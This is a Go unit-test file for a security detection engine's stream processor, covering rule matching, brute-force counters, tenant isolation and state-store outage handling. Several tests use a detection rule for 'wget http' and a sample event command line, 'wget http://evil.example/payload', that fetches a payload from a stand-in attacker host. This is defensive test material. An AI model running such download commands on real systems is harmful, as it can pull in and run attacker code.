package streamprocessor

import (
	"context"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vigil/internal/domain"
	"vigil/internal/statestore"
	id "vigil/pkg/domain"
	dErrors "vigil/pkg/domainerrors"
)

// fakeSink records every alert emitted, letting tests assert on matches
// without standing up internal/alertsink.
type fakeSink struct {
	mu     sync.Mutex
	alerts []*domain.Alert
}

func (s *fakeSink) Emit(ctx context.Context, alert *domain.Alert) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.alerts = append(s.alerts, alert)
	return nil
}

func (s *fakeSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.alerts)
}

func (s *fakeSink) last() *domain.Alert {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.alerts) == 0 {
		return nil
	}
	return s.alerts[len(s.alerts)-1]
}

// fakeRuleSource hands back a fixed rule list, simulating
// internal/rulecatalog for tests.
type fakeRuleSource struct {
	rules []*domain.Rule
}

func (s *fakeRuleSource) ActiveRealTimeRules(ctx context.Context) ([]*domain.Rule, error) {
	return s.rules, nil
}

// failingStore always returns an error, simulating a state-store outage.
// It implements statestore.Store directly rather than embedding
// *MemoryStore, since none of its other methods are ever expected to be
// reached while Incr keeps failing.
type failingStore struct{}

func newFailingStore() *failingStore { return &failingStore{} }

func (f *failingStore) Incr(ctx context.Context, key string) (int64, error) {
	return 0, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) IncrBy(ctx context.Context, key string, delta int64) (int64, error) {
	return 0, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) SetExpire(ctx context.Context, key string, ttl time.Duration) error {
	return dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) Delete(ctx context.Context, key string) error {
	return dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) SetAdd(ctx context.Context, key, member string) (bool, error) {
	return false, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) SetMembers(ctx context.Context, key string) ([]string, error) {
	return nil, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) ListPrepend(ctx context.Context, key, value string) error {
	return dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) ListTrim(ctx context.Context, key string, maxLen int) error {
	return dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) ListLength(ctx context.Context, key string) (int, error) {
	return 0, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) ListMembers(ctx context.Context, key string) ([]string, error) {
	return nil, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}
func (f *failingStore) GetTTL(ctx context.Context, key string) (time.Duration, error) {
	return 0, dErrors.New(dErrors.CodeUnavailable, "state store unreachable")
}

func statelessRule(ruleID, query string) *domain.Rule {
	return &domain.Rule{
		RuleID:     id.RuleID(ruleID),
		TenantID:   "tenant-a",
		Name:       ruleID,
		Query:      query,
		IsActive:   true,
		EngineType: domain.EngineRealTime,
	}
}

func statefulCounterRule(ruleID string, threshold, windowSeconds int) *domain.Rule {
	return &domain.Rule{
		RuleID:     id.RuleID(ruleID),
		TenantID:   "tenant-a",
		Name:       ruleID,
		Query:      "SELECT * FROM events WHERE (event_action = 'login_failed')",
		IsActive:   true,
		EngineType: domain.EngineRealTime,
		IsStateful: true,
		StatefulConfig: &domain.StatefulConfig{
			KeyPrefix:     "brute-force",
			AggregateOn:   []string{"source_ip"},
			Threshold:     threshold,
			WindowSeconds: windowSeconds,
			TrackingType:  domain.TrackingCounter,
		},
	}
}

func newTestCache(t *testing.T, rules ...*domain.Rule) *RuleCache {
	t.Helper()
	cache := NewRuleCache(&fakeRuleSource{rules: rules}, nil)
	require.NoError(t, cache.Refresh(context.Background()))
	return cache
}

func loginFailedEvent(tenant, sourceIP string) *domain.Event {
	return &domain.Event{
		EventID:       id.NewEventID(),
		TenantID:      id.TenantID(tenant),
		EventAction:   "login_failed",
		SourceIP:      sourceIP,
		ParsingStatus: domain.ParsingSuccess,
	}
}

func TestProcessor_StatelessRule_MatchEmitsAlert(t *testing.T) {
	rule := statelessRule("r1", "SELECT * FROM events WHERE (command_line LIKE '%wget http%')")
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, statestore.New(), sink, nil)

	event := &domain.Event{EventID: id.NewEventID(), TenantID: "tenant-a", CommandLine: "wget http://evil.example/payload"}
	require.NoError(t, p.ProcessEvent(context.Background(), event))

	assert.Equal(t, 1, sink.count())
}

func TestProcessor_StatelessRule_NoMatchEmitsNothing(t *testing.T) {
	rule := statelessRule("r1", "SELECT * FROM events WHERE (command_line LIKE '%wget http%')")
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, statestore.New(), sink, nil)

	event := &domain.Event{EventID: id.NewEventID(), TenantID: "tenant-a", CommandLine: "ls -la"}
	require.NoError(t, p.ProcessEvent(context.Background(), event))

	assert.Equal(t, 0, sink.count())
}

func TestProcessor_StatelessRule_OtherTenantUnaffected(t *testing.T) {
	rule := statelessRule("r1", "SELECT * FROM events WHERE (command_line LIKE '%wget http%')")
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, statestore.New(), sink, nil)

	event := &domain.Event{EventID: id.NewEventID(), TenantID: "tenant-b", CommandLine: "wget http://evil.example/payload"}
	require.NoError(t, p.ProcessEvent(context.Background(), event))

	assert.Equal(t, 0, sink.count())
}

func TestProcessor_StatefulCounter_FiresOnThresholdBreach(t *testing.T) {
	rule := statefulCounterRule("brute-force", 3, 60)
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	store := statestore.New()
	p := New(cache, store, sink, nil)

	ctx := context.Background()
	for i := 0; i < 3; i++ {
		require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	}
	assert.Equal(t, 0, sink.count(), "below threshold should not alert")

	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count(), "fourth failure crosses threshold=3")
}

func TestProcessor_StatefulCounter_DeletesKeyAfterFiring(t *testing.T) {
	rule := statefulCounterRule("brute-force", 1, 60)
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	store := statestore.New()
	p := New(cache, store, sink, nil)

	ctx := context.Background()
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count())

	key := statestore.BuildKey("brute-force", "tenant-a", "10.0.0.5")
	ttl, err := store.GetTTL(ctx, key)
	require.NoError(t, err)
	assert.True(t, ttl < 0, "key should be deleted after firing")
}

func TestProcessor_StatefulCounter_TenantsIsolated(t *testing.T) {
	ruleA := statefulCounterRule("brute-force", 1, 60)
	ruleB := statefulCounterRule("brute-force", 1, 60)
	ruleB.TenantID = "tenant-b"
	cache := newTestCache(t, ruleA, ruleB)
	sink := &fakeSink{}
	store := statestore.New()
	p := New(cache, store, sink, nil)

	ctx := context.Background()
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-b", "10.0.0.5")))

	assert.Equal(t, 0, sink.count(), "each tenant needs its own two failures to cross threshold=1, and a shared source_ip must not share state across tenants")

	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count(), "tenant-a's second failure should fire independently of tenant-b's count")
}

func TestProcessor_StateStoreOutage_DegradesToLocalMemory(t *testing.T) {
	rule := statefulCounterRule("brute-force", 2, 60)
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, newFailingStore(), sink, nil, WithRefreshGrace(time.Hour))

	ctx := context.Background()
	for i := 0; i < 3; i++ {
		require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	}

	assert.Equal(t, 1, sink.count(), "local-memory fallback should still cross threshold=2")
}

func TestProcessor_StateStoreOutage_SuspendsAfterGraceAndRaisesAlert(t *testing.T) {
	rule := statefulCounterRule("brute-force", 100, 60)
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, newFailingStore(), sink, nil, WithRefreshGrace(1 * time.Millisecond))

	ctx := context.Background()
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	time.Sleep(5 * time.Millisecond)
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))

	require.Equal(t, 1, sink.count())
	alert := sink.last()
	assert.Equal(t, degradedRuleID, alert.RuleID)
	assert.Equal(t, systemTenantID, alert.TenantID)
}

func TestRuleCache_Refresh_DropsUncompilableRuleKeepsOthers(t *testing.T) {
	good := statelessRule("r-good", "SELECT * FROM events WHERE (command_line LIKE '%wget%')")
	broken := statelessRule("r-broken", "SELECT * FROM events WHERE (((unbalanced")
	cache := newTestCache(t, good, broken)

	rules := cache.RulesForTenant("tenant-a")
	require.Len(t, rules, 1, "the uncompilable rule should be dropped, not block the rest of the refresh")
	assert.Equal(t, id.RuleID("r-good"), rules[0].Rule.RuleID)
}

func TestProcessor_RuleEvaluationError_DoesNotBlockOtherRules(t *testing.T) {
	good := statelessRule("r-good", "SELECT * FROM events WHERE (command_line LIKE '%wget%')")
	cache := newTestCache(t, good)
	sink := &fakeSink{}
	p := New(cache, statestore.New(), sink, nil)

	event := &domain.Event{EventID: id.NewEventID(), TenantID: "tenant-a", CommandLine: "wget http://x"}
	require.NoError(t, p.ProcessEvent(context.Background(), event))
	assert.Equal(t, 1, sink.count())
}

func TestProcessor_BatchedCounting_FiresOnLocalThresholdWithoutTouchingStore(t *testing.T) {
	rule := statefulCounterRule("brute-force-batched", 2, 60)
	rule.StatefulConfig.BatchedCounting = true
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, newFailingStore(), sink, nil)

	ctx := context.Background()
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 0, sink.count(), "below threshold should not alert")

	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 0, sink.count(), "exactly at threshold should not alert")

	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count(), "third failure crosses threshold=2 via the local buffer, even though the shared store always errors")
}

func TestProcessor_BatchedCounting_ResetsLocalCountAfterFiring(t *testing.T) {
	rule := statefulCounterRule("brute-force-batched", 1, 60)
	rule.StatefulConfig.BatchedCounting = true
	cache := newTestCache(t, rule)
	sink := &fakeSink{}
	p := New(cache, statestore.New(), sink, nil)

	ctx := context.Background()
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count())

	require.NoError(t, p.ProcessEvent(ctx, loginFailedEvent("tenant-a", "10.0.0.5")))
	assert.Equal(t, 1, sink.count(), "the local counter should have reset after firing, so one more failure alone should not re-alert")
}

func TestRuleCache_RefreshOrdersRulesLexically(t *testing.T) {
	ruleB := statelessRule("b-rule", "SELECT * FROM events WHERE (command_line LIKE '%x%')")
	ruleA := statelessRule("a-rule", "SELECT * FROM events WHERE (command_line LIKE '%x%')")
	cache := newTestCache(t, ruleB, ruleA)

	rules := cache.RulesForTenant("tenant-a")
	require.Len(t, rules, 2)
	assert.Equal(t, id.RuleID("a-rule"), rules[0].Rule.RuleID)
	assert.Equal(t, id.RuleID("b-rule"), rules[1].Rule.RuleID)
}
